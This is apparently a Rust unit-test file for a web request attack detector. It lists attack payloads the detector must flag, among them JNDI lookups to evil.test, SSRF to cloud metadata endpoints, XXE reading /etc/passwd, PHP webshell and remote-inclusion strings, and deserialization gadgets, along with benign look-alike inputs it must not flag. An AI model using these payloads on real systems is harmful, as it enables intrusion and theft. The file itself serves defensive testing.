//! Tests of [`super`]: positive and benign cases per shape.

use super::*;

fn kinds(place: Place, v: &str) -> Vec<&'static str> {
    detect(place, &v.to_ascii_lowercase())
        .into_iter()
        .map(|(k, _)| k.name())
        .collect()
}

#[test]
fn attacks_of_each_family() {
    use Place::*;
    for (place, v, k) in [
        (Query, "x\r\nSet-Cookie: a=b", "injection_crlf"),
        (Header, "foo\r\nX-Injected: 1", "injection_crlf"),
        (Query, "a\r\nHTTP/1.1 200 OK", "injection_crlf"),
        (Query, "test\rnext=more", "injection_crlf"),
        (
            Query,
            "foo<meta http-equiv=\"Refresh\" content=\"0; url=http://x.test/\">",
            "injection_crlf",
        ),
        (
            Body,
            "<META HTTP-EQUIV=Set-Cookie CONTENT=\"a=b\">",
            "injection_crlf",
        ),
        (Header, "${jndi:ldap://evil.test/a}", "injection_jndi"),
        (
            Query,
            "${${lower:j}${upper:n}di:ldap://x/a}",
            "injection_jndi",
        ),
        (
            Body,
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x}",
            "injection_jndi",
        ),
        (
            Header,
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x/y}",
            "injection_jndi",
        ),
        (
            Query,
            "$${env:a:-${env:b:-$}{jndi:ldap://evil.test/x}}}",
            "injection_jndi",
        ),
        (Query, "user__password__startswith", "injection_orm"),
        (Body, "roles__contained_by", "injection_orm"),
        (Query, "balance__gte", "injection_orm"),
        (
            Query,
            "a[constructor][prototype]",
            "injection_prototype_pollution",
        ),
        (
            Query,
            "this.constructor.constructor('return process')()",
            "injection_code",
        ),
        (Query, "process[req.query.a]", "injection_code"),
        (Query, "console['info'](1)", "injection_code"),
        (Header, "uploads/shell.php.....", "injection_php"),
        (Header, "sess_d8ew88tqmabdcokhumchy8htqm", "injection_php"),
        (Query, "$ {'_VAR'.'IABLE'}", "injection_php"),
        (Query, "(sy.(st).em)('uname');", "injection_php"),
        (Query, "$_ab[5]['d'] /*x*/ (17)", "injection_php"),
        (Query, "_flask_session", "session_fixation"),
        (Query, "<?xml :echo 1;", "injection_php"),
        (Query, "test<?", "injection_php"),
        (Query, "touch/*a\r\nb*/()", "injection_php"),
        (Query, "FOOgzinflate(base64_decode('x'))", "injection_php"),
        (Query, "array_diff (", "injection_php"),
        (Query, "pg_enter_pipeline_mode(", "injection_php"),
        (Query, "sodium_crypto_box_keypair()", "injection_php"),
        (Query, "gethostbyname('x')", "injection_php"),
        (Query, "assert_options (\n\n)", "injection_php"),
        (Query, "FILE\r\n()", "injection_php"),
        (Query, "crypt(abc)", "injection_php"),
        (Query, "filegroup  (blah)", "injection_php"),
        (Query, "memory_limit = 512M", "injection_php"),
        (Query, "mbstring.regex_stack_limit=1", "injection_php"),
        (Query, "serialize#c\n()", "injection_php"),
        (Query, "http://[fe80::1%25eth0]/", "injection_ssrf"),
        (Query, "http://localhost4/", "injection_ssrf"),
        (Query, "http://192.0.0.192/latest/", "injection_ssrf"),
        (
            Query,
            "http://good.test:80 &@good.test:80# @127.88.23.245:22/",
            "injection_ssrf",
        ),
        (
            Query,
            "data:text/plain;base64,SSBsb3ZlIFBIUAo=",
            "injection_ssrf",
        ),
        (Query, "while(!-0);", "injection_code"),
        (Query, "while(new Date);", "injection_code"),
        (Query, "Process.spawn(\"id\")", "injection_code"),
        (Path, "/wp-content/debug.log", "probe_leftover_file"),
        (Path, "/error_log", "probe_leftover_file"),
        (Body, "jsessionid", "session_fixation"),
        (Query, "{{7*7}}", "injection_ssti"),
        (
            Body,
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "injection_ssti",
        ),
        (Query, "<%= 7 * 7 %>", "injection_ssti"),
        (Query, "${7*7}", "injection_ssti"),
        (Query, "#{7*7}", "injection_ssti"),
        (
            Body,
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
            "injection_ssti",
        ),
        (
            Body,
            "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
            "injection_xxe",
        ),
        (
            Body,
            "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://x/e.dtd\"> %p;]>",
            "injection_xxe",
        ),
        (
            Query,
            "http://169.254.169.254/latest/meta-data/",
            "injection_ssrf",
        ),
        (Query, "http://2130706433/", "injection_ssrf"),
        (Query, "http://0x7f.1/", "injection_ssrf"),
        (Query, "http://0177.0.0.1/", "injection_ssrf"),
        (Query, "http://[::ffff:127.0.0.1]/", "injection_ssrf"),
        (Query, "http://user@10.0.0.5:8080/admin", "injection_ssrf"),
        (
            Query,
            "http://metadata.google.internal/computeMetadata/v1/",
            "injection_ssrf",
        ),
        (Query, "gopher://x:6379/_SET", "injection_ssrf"),
        (Query, "http://127.0.0.1.nip.io/", "injection_ssrf"),
        (Query, "*)(uid=*))(|(uid=*", "injection_ldap"),
        (Body, "admin)(&(objectClass=*)", "injection_ldap"),
        (Query, "<!--#exec cmd=\"ls\" -->", "injection_ssi"),
        (
            Query,
            "me@x.test\r\nRCPT TO: victim@y.test",
            "injection_mail",
        ),
        (Query, "INBOX\r\nA1 FETCH 1:* (BODY[])", "injection_mail"),
        (Query, "http://203.0.113.9/shell.txt?", "injection_rfi"),
        (Query, "http://evil.test/shell.txt?", "injection_rfi"),
        (Query, "https?", "injection_rfi"),
        (Query, "ftp:evil.test/x.txt??", "injection_rfi"),
        (Query, "<?php system($_GET['c']); ?>", "injection_php"),
        (Query, "(system)('uname')", "injection_php"),
        (
            Query,
            "php://filter/convert.base64-encode/resource=index.php",
            "injection_php",
        ),
        (Body, "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", "injection_php"),
        (Body, "allow_url_include=1", "injection_php"),
        (Body, "java.lang.Runtime", "injection_java"),
        (
            Query,
            "%{#_memberAccess[\"allowStaticMethodAccess\"]=true}",
            "injection_java",
        ),
        (
            Body,
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
            "injection_java",
        ),
        (
            Body,
            "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ",
            "injection_java",
        ),
        (
            Body,
            "org.apache.commons.collections.functors.InvokerTransformer",
            "injection_java",
        ),
        (
            Query,
            "require('child_process').exec('id')",
            "injection_code",
        ),
        (Query, "@{[system 'id']}", "injection_code"),
        (Body, "__import__('os').system('id')", "injection_code"),
        (Query, "__proto__[admin]", "injection_prototype_pollution"),
        (
            Query,
            "constructor[prototype][isAdmin]",
            "injection_prototype_pollution",
        ),
        (Query, "phpsessid", "session_fixation"),
        (
            Query,
            "<script>document.cookie=\"sid=1\"</script>",
            "session_fixation",
        ),
        (Path, "/.git/config", "probe_leftover_file"),
        (Path, "/.env", "probe_leftover_file"),
        (Path, "/index.php.bak", "probe_leftover_file"),
        (Path, "/config.php~", "probe_leftover_file"),
        (Path, "/backup/site.old", "probe_leftover_file"),
    ] {
        assert!(
            kinds(place, v).contains(&k),
            "{v} ({place:?}): {:?}",
            kinds(place, v)
        );
    }
}

#[test]
fn benign_look_alikes() {
    use Place::*;
    for (place, v) in [
        (Query, "https://partner.example.com/callback?state=1"),
        (
            Body,
            "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\">",
        ),
        (Body, "the refresh meta tag (http-equiv) is deprecated"),
        (Query, "https://8.8.8.8.example.org/"),
        (Body, "Hello,\nName: Bob\nThanks"),
        (Body, "Hello,\nsize=large\nThanks"),
        (Query, "line one\nline two = fine"),
        (Query, "{{username}}"),
        (Query, "price is $5 (about 7*7 cents)"),
        (Body, "see the java.util.List docs"),
        (Body, "Please find the file (attached)"),
        (Body, "include (optional) notes; it costs $5 (five dollars)"),
        (Query, "price (incl. VAT)"),
        (Body, "the array (of sizes) is sorted"),
        (Body, "str (string) and is (boolean) in the table"),
        (Query, "file (2 MB max)"),
        (Query, "print (color) or pi (3.14)"),
        (Query, "my_array_helper"),
        (Query, "engine=true"),
        (Body, "the session. Limit=5 per day"),
        (
            Header,
            "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/120.0",
        ),
        (Query, "50% off (limited)"),
        (Body, "I'm going to the system meeting (at 5)"),
        (Query, "email me at a@b.test"),
        (Path, "/.well-known/openid-configuration"),
        (Path, "/static/app.min.js"),
        (Path, "/docs/v1.2/intro"),
        (Query, "*bold* (text) = fine"),
        (Body, "<?xml version=\"1.0\"?><order id=\"5\"/>"),
        (
            Header,
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
        ),
        (Header, "https://www.example.com/search?q=tea"),
        (Query, "session"),
        (Body, "session_id"),
        (Query, "first__name"),
        (Query, "__init__"),
        (Path, "/admin/index.php"),
        (Body, "<?xml version=\"1.0\"?><a/>"),
        (Body, "Item #3\n(optional) and item #4\n(required)"),
        (Body, "see https://example.com/a\n(link above)"),
        (Body, "data:image/png;base64,iVBORw0KGgo="),
        (Query, "https://user@example.com/profile"),
        (Body, "while (the kettle boils) we wait"),
        (Path, "/api/v1/log"),
        (Path, "/blog/changelog"),
        (Path, "/api/logs/2024.json"),
        (Query, "Hello ${name}, your order ${order} shipped"),
        (Query, "see (figure 2)('a') below"),
        (Body, "the constructor of a prototype-based language"),
        (Query, "is it https?"),
        (Query, "httpclient?"),
        (Query, "filed?"),
        (Query, "https://example.com/search?q=tea"),
    ] {
        assert!(
            kinds(place, v).is_empty(),
            "{v} ({place:?}): {:?}",
            kinds(place, v)
        );
    }
}
